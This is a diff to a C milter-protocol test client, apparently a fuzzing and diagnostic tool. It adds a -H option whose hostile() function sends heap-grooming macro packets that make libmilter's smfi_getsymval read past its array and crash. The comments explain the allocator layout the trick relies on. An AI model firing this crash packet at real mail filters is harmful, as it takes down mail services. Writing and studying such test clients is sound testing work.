@@ -3,7 +3,7 @@
  * 8-bit), raw garbage, hundreds of recipients, and the exact reply text.
  *
  * usage: mclient SOCKET [-a AUTHEN] [-i ADDR] [-f FROM] [-L LEN] [-m N]
- *                [-r N] [-C] [-G] [-t SECS]
+ *                [-r N] [-C] [-G] [-H] [-t SECS]
  *   SOCKET    inet:PORT@ADDRESS or unix:/path
  *   -a AUTHEN {auth_authen} at MAIL; C escapes (\xNN, \0, \\) give any byte
  *   -i ADDR   {client_addr} at MAIL (and CONNECT's address with -C)
@@ -14,6 +14,11 @@
  *   -r N      send N RCPT after each MAIL, whatever was negotiated
  *   -C        be an old MTA: offer no macro-list negotiation, send CONNECT
  *   -G        send a garbage packet (unknown command, then junk length)
+ *   -H        send libmilter's fatal packet: MAIL macros with an odd
+ *             number of strings, whose smfi_getsymval reads one pointer
+ *             past its array; two macro packets before it leave a
+ *             non-canonical pointer there, so the read faults for sure
+ *             (glibc's allocator; see hostile())
  *   -t SECS   reply timeout (default 5)
  * Prints one line per MAIL: accept, continue, reject, tempfail, discard,
  * "reply CODE TEXT", closed or timeout; with -r also "rcpt REPLIES/N".
@@ -204,6 +209,36 @@ static int print_reply(int fd, const char *prefix)
 	return ret;
 }
 
+/* The -H packets, then MAIL. libmilter's dec_argv allocates n + 1
+   pointers for n strings; smfi_getsymval steps through them in pairs, so
+   for odd n it reads element n + 1, in the allocation's slack. That
+   slack holds whatever the chunk held before: the first packet's buffer
+   (23 bytes of which the last 21 are 'A', in the allocator's smallest
+   bin), which the second packet's macros free just before the third,
+   odd one allocates its array from that bin. */
+static void hostile(int fd)
+{
+	static const char fill[] = "M\0AAAAAAAAAAAAAAAAAAAAA";
+	static const char even[] = "Ma\0b\0c\0dddddddddddddddddddddddddddddddddddddddd"
+		"dddddddddd";
+	static const char odd[] = "M{client_addr_padding_padding_padding_pad}";
+	struct buf b = { NULL, 0, 0 };
+
+	buf_add(&b, fill, sizeof(fill) - 1);           /* 23 bytes */
+	send_packet(fd, SMFIC_MACRO, &b);
+	b.len = 0;
+	buf_add(&b, even, sizeof(even));               /* 4 strings */
+	send_packet(fd, SMFIC_MACRO, &b);
+	b.len = 0;
+	buf_add(&b, odd, sizeof(odd));                 /* 1 string */
+	send_packet(fd, SMFIC_MACRO, &b);
+	b.len = 0;
+	buf_add(&b, "<a@b>", 6);
+	send_packet(fd, SMFIC_MAIL, &b);
+	print_reply(fd, "");
+	free(b.data);
+}
+
 /* A whole decimal number <= max, or exit. */
 static unsigned long number(const char *text, unsigned long max)
 {
@@ -269,12 +304,12 @@ int main(int argc, char **argv)
 	const char *addr = NULL, *from_text = "<>";
 	unsigned long nmail = 1, nrcpt = 0, pad = 0, timeout = 5;
 	uint32_t actions, protocol = 0;
-	bool have_authen = false, old_mta = false, garbage = false;
+	bool have_authen = false, old_mta = false, garbage = false, fatal = false;
 	struct timeval tv;
 	int fd, opt, status = 0;
 	char cmd;
 
-	while ((opt = getopt(argc - 1, argv + 1, "a:i:f:L:m:r:CGt:")) != -1) {
+	while ((opt = getopt(argc - 1, argv + 1, "a:i:f:L:m:r:CGHt:")) != -1) {
 		switch (opt) {
 		case 'a': unescape(optarg, &authen); have_authen = true; break;
 		case 'i': addr = optarg; break;
@@ -284,10 +319,12 @@ int main(int argc, char **argv)
 		case 'r': nrcpt = number(optarg, 100000); break;
 		case 'C': old_mta = true; break;
 		case 'G': garbage = true; break;
+		case 'H': fatal = true; break;
 		case 't': timeout = number(optarg, 3600); break;
 		default:
 			fprintf(stderr, "usage: mclient SOCKET [-a AUTHEN] [-i ADDR] "
-				"[-f FROM] [-L LEN] [-m N] [-r N] [-C] [-G] [-t SECS]\n");
+				"[-f FROM] [-L LEN] [-m N] [-r N] [-C] [-G] [-H] "
+				"[-t SECS]\n");
 			return 2;
 		}
 	}
@@ -335,6 +372,10 @@ int main(int argc, char **argv)
 		buf_add(&b, "M<x>", 4);
 		write_all(fd, b.data, b.len);
 		print_reply(fd, "garbage ");
+		goto out;
+	}
+	if (fatal) {
+		hostile(fd);
 		goto out;
 	}
 	if (!(protocol & SMFIP_NOCONNECT)) {
